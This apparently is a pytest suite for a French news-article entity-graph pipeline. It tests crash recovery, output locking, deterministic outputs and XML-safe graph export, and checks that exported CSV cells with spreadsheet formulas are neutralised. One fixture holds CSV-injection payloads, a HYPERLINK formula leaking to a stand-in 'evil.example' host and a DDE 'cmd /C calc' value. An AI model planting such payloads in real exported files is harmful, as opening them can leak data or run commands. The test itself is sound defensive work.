"""Faults and safety: a run killed mid-way, two runs on one folder, byte-identical
outputs, spreadsheet formulas in CSV cells, characters XML forbids."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import networkx as nx
import pytest

from pipeline import load_config, run
from pipeline.flow import export_outputs
from pipeline.records import Cooccurrence, CorpusTables, DocumentRow, Entity
from pipeline.store.lock import OutputLock
from tests.conftest import is_number

PROJECT = Path(__file__).resolve().parent.parent
ARTICLES = PROJECT / "data" / "articles"
COMPARED = ("*.csv", "graph.graphml", "graph.gexf", "graph.json")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cli(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pipeline", *args], capture_output=True, text=True, cwd=PROJECT, timeout=600, **kwargs
    )


def _config_file(folder: Path, text: str) -> Path:
    path = folder / "config.toml"
    path.write_text(text, encoding="utf-8")
    return path


def _snapshot(folder: Path) -> dict[str, bytes]:
    """Bytes of every file under `folder` but the lock file (it holds the last run's pid)."""
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.name != ".pressgraph.lock"
    }


def _outputs(folder: Path) -> dict[str, bytes]:
    """The tables and graphs of a run (GEXF carries no date stamp: same bytes on any day)."""
    return {p.name: p.read_bytes() for pattern in COMPARED for p in sorted(folder.glob(pattern))}


def _read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _cache_entries(cache: Path) -> int:
    """Articles whose annotations are cached."""
    return len(list((cache / "annotations").rglob("*.msgpack"))) if cache.exists() else 0


SMALL_OUTPUTS = {
    "documents": [DocumentRow("d1", "d1.txt", "Titre", "2024-06-18", "", 10, 1, 2, "ok", "")],
    "blocks": [],
    "mentions": [],
    "entities": [
        Entity("Q7747", "Vladimir Poutine", "PER", "Q7747", 3, 1, "Poutine"),
        Entity("Q56226", "Kim Jong-un", "PER", "Q56226", 2, 1, "Kim Jong-un"),
    ],
    "edges": [Cooccurrence("Q56226", "Q7747", 2, 1, 2, 0.4, 0.5, 0.5, "", "")],
    "relations": [],
}


# ------------------------------------------------------- killed mid-run


def test_run_killed_mid_way_leaves_previous_outputs_and_the_next_run_uses_the_cache(tmp_path):
    small = sorted(ARTICLES.glob("*.txt"), key=lambda p: p.stat().st_size)[:2]
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for i in range(40):
        src = small[i % 2]
        shutil.copyfile(src, corpus / f"copy_{i:02d}_{src.name}")
    cache, out = tmp_path / "cache", tmp_path / "out"
    # copies are near-duplicates: keep them so that every one is annotated; small batches fill the cache steadily
    config = _config_file(
        tmp_path,
        f'[input]\nkeep_duplicates = true\n[annotate]\ncache_dir = "{cache}"\nbatch_size = 4\n',
    )
    run([small[0]], load_config(config, {"output.out_dir": out}))  # the earlier, complete run
    before, earlier_entries = _snapshot(out), _cache_entries(cache)
    assert "documents.csv" in before and "graph.gexf" in before

    log = tmp_path / "stderr.txt"
    with open(log, "w", encoding="utf-8") as err:
        proc = subprocess.Popen(
            [sys.executable, "-m", "pipeline", "run", str(corpus), "--out", str(out)]
            + ["--config", str(config), "--no-progress"],
            cwd=PROJECT,
            stdout=subprocess.DEVNULL,
            stderr=err,
        )
        try:
            deadline = time.monotonic() + 300
            while _cache_entries(cache) < earlier_entries + 3 and proc.poll() is None and time.monotonic() < deadline:
                time.sleep(0.05)
            assert proc.poll() is None, f"the run ended before it could be killed: {log.read_text()}"
            os.kill(proc.pid, signal.SIGKILL)
        finally:
            proc.kill()
            proc.wait(timeout=60)
    assert proc.returncode == -signal.SIGKILL
    cached = _cache_entries(cache) - earlier_entries
    assert 3 <= cached < 40, cached

    assert _snapshot(out) == before  # byte-identical, no partial or temporary file
    result = run([corpus], load_config(config, {"output.out_dir": out}))  # the lock died with the process
    assert result.cache_hits >= cached
    assert (result.articles, result.failed) == (40, 0)
    assert json.loads((out / "run.json").read_text(encoding="utf-8"))["counts"]["cache_hits"] == result.cache_hits
    assert len(_read_csv(out / "documents.csv")) == 40


# ------------------------------------------------------- two runs at once


def test_second_run_on_a_locked_output_folder_refuses_and_touches_nothing(tmp_path):
    out = tmp_path / "out"
    export_outputs(out, CorpusTables(**SMALL_OUTPUTS))
    before = _snapshot(out)
    with OutputLock(out):
        holder = (out / ".pressgraph.lock").read_text(encoding="utf-8")
        proc = _cli("run", str(ARTICLES), "--out", str(out), "--no-progress")
        assert (out / ".pressgraph.lock").read_text(encoding="utf-8") == holder == str(os.getpid())
    assert proc.returncode == 2
    [line] = proc.stderr.splitlines()
    assert line.startswith(f"pressgraph: {out}: another run is writing this folder (pid {os.getpid()})"), line
    assert _snapshot(out) == before


# ---------------------------------------------------------- determinism


def _run_shipped(tmp: Path, name: str, *, workers: int, cache: str):
    cfg = load_config(
        overrides={
            "output.out_dir": tmp / name,
            "annotate.cache_dir": tmp / cache,
            "annotate.workers": workers,
        }
    )
    return run([ARTICLES], cfg)


@pytest.fixture(scope="module")
def first_run(tmp_path_factory):
    """The shipped articles, one worker, an empty cache."""
    tmp = tmp_path_factory.mktemp("determinism")
    result = _run_shipped(tmp, "one", workers=1, cache="cache1")
    assert result.cache_hits == 0 and result.mentions > 100 and result.edges > 10
    return tmp


def _assert_same_outputs(expected_dir: Path, got_dir: Path) -> None:
    expected, got = _outputs(expected_dir), _outputs(got_dir)
    assert {"documents.csv", "mentions.csv", "evidence.csv", "graph.graphml", "graph.gexf"} <= set(expected)
    assert got.keys() == expected.keys()
    assert [name for name in expected if got[name] != expected[name]] == []


def test_same_input_gives_byte_identical_outputs_with_one_or_two_workers(first_run):
    """Two runs without cache, spaCy with n_process=1 and n_process=2."""
    result = _run_shipped(first_run, "two", workers=2, cache="cache2")
    assert result.cache_hits == 0
    _assert_same_outputs(first_run / "one", first_run / "two")


def test_same_input_gives_byte_identical_outputs_when_annotations_come_from_the_cache(first_run):
    result = _run_shipped(first_run, "again", workers=1, cache="cache1")
    assert result.cache_hits == 5
    _assert_same_outputs(first_run / "one", first_run / "again")


# -------------------------------------------------- spreadsheet formulas

FORMULA_RECORD = {
    "id": "=1+1",
    "title": '=HYPERLINK("http://evil.example/?leak","Cliquez ici")',
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
    "date": "2024-06-19",
    "text": "+Vladimir Poutine a rencontré Kim Jong-un à Pyongyang mardi soir.\n\n"
    "Le Kremlin et Pékin ont salué la visite de Vladimir Poutine en Corée du Nord.",
}


def test_formula_cells_are_neutralised_by_default_and_kept_with_raw_csv(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "feed.jsonl").write_text(json.dumps(FORMULA_RECORD, ensure_ascii=False) + "\n", encoding="utf-8")

    def run_with(name: str, raw: bool) -> Path:
        cfg = load_config(
            overrides={
                "output.out_dir": tmp_path / name,
                "annotate.cache_dir": tmp_path / "cache",
                "output.raw_csv": raw,
            }
        )
        result = run([folder], cfg)
        assert (result.articles, result.failed) == (1, 0)
        return tmp_path / name

    safe, raw = run_with("safe", False), run_with("raw", True)
    [doc] = _read_csv(safe / "documents.csv")
    assert (doc["doc_id"], doc["title"], doc["url"]) == (
        "'=1+1",
        "'" + FORMULA_RECORD["title"],
        "'" + FORMULA_RECORD["url"],
    )
    evidence = [s["text"] for s in _read_csv(safe / "sentences.csv")]  # the text of evidence sentences
    assert any(e.startswith("'+Vladimir Poutine a rencontré Kim Jong-un") for e in evidence), evidence
    for path in safe.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)], path.name

    [doc] = _read_csv(raw / "documents.csv")
    assert (doc["doc_id"], doc["title"], doc["url"]) == ("=1+1", FORMULA_RECORD["title"], FORMULA_RECORD["url"])
    evidence = [s["text"] for s in _read_csv(raw / "sentences.csv")]
    assert any(e.startswith("+Vladimir Poutine a rencontré Kim Jong-un") for e in evidence), evidence
    assert {m["doc_id"] for m in _read_csv(raw / "mentions.csv")} == {"=1+1"}


# ------------------------------------------------ characters XML forbids


def test_characters_xml_forbids_never_break_graphml_or_gexf(tmp_path):
    forbidden = "".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + "\ufffe\uffff"
    entities = [
        Entity("per:kim\x01jong-un", "Kim\x01Jong\x0b-un", "PER", "", 2, 1, "Kim\x01Jong\x0b-un"),
        Entity("Q7747", f"Vladimir{forbidden}Poutine", "PER", "Q7747", 3, 1, "Poutine"),
        Entity("Q423", "Corée du Nord", "STATE", "Q423", 5, 2, "Corée du Nord"),
    ]
    edges = [
        Cooccurrence("Q7747", "per:kim\x01jong-un", 2, 1, 2, 0.4, 0.5, 0.5, "", ""),
        Cooccurrence("Q423", "Q7747", 9, 2, 9, 0.1, 0.2, 0.8, "", ""),
    ]
    export_outputs(tmp_path, CorpusTables(entities=entities, edges=edges))
    for name, reader in (("graph.graphml", nx.read_graphml), ("graph.gexf", nx.read_gexf)):
        g = reader(tmp_path / name)
        names = {g.nodes[n].get("name", g.nodes[n].get("label")) for n in g}
        assert names == {"Kim Jong -un", "Vladimir" + " " * len(forbidden) + "Poutine", "Corée du Nord"}, name
        assert set(g.nodes) == {"per:kim jong-un", "Q7747", "Q423"}, name
        assert g.number_of_edges() == 2 and int(g.edges["Q7747", "per:kim jong-un"]["weight"]) == 2, name
    data = json.loads((tmp_path / "graph.json").read_text(encoding="utf-8"))
    assert {n["id"] for n in data["nodes"]} == {"per:kim jong-un", "Q7747", "Q423"}


# ------------------------------------------------- faults inside a run


def test_article_failing_after_annotation_leaves_no_rows_behind(tmp_path, monkeypatch):
    import pipeline.flow

    folder = tmp_path / "in"
    folder.mkdir()
    records = [
        {"id": "a", "text": "Vladimir Poutine a rencontré Kim Jong-un à Pyongyang mardi soir."},
        {"id": "b", "text": "Emmanuel Macron a reçu Olaf Scholz à Paris. Berlin et Paris veulent avancer."},
    ]
    (folder / "feed.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    save = pipeline.flow._save_text

    def full_disk(article, out_dir):
        if article.doc_id == "a":
            raise OSError(28, "No space left on device")
        save(article, out_dir)

    monkeypatch.setattr(pipeline.flow, "_save_text", full_disk)
    out = tmp_path / "out"
    result = run([folder], load_config(overrides={"output.out_dir": out, "annotate.cache_dir": tmp_path / "c"}))
    assert (result.articles, result.failed) == (1, 1)
    status = {d["doc_id"]: d["status"] for d in _read_csv(out / "documents.csv")}
    assert status["b"] == "ok" and status["a"].startswith("error: ") and "No space left" in status["a"]
    for table in ("mentions.csv", "sentences.csv", "blocks.csv", "evidence.csv"):
        doc_ids = {r["doc_id"] for r in _read_csv(out / table)}
        assert "a" not in doc_ids, table
    assert {r["doc_id"] for r in _read_csv(out / "mentions.csv")} == {"b"}


def test_outputs_get_the_permissions_of_an_ordinary_file(tmp_path):
    """Not mkstemp's private 0600: what the umask gives any new file."""
    umask = os.umask(0)
    os.umask(umask)
    export_outputs(tmp_path, CorpusTables(**SMALL_OUTPUTS))
    modes = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in tmp_path.iterdir()}
    assert len(modes) >= 10 and set(modes.values()) == {oct(0o666 & ~umask)}, modes
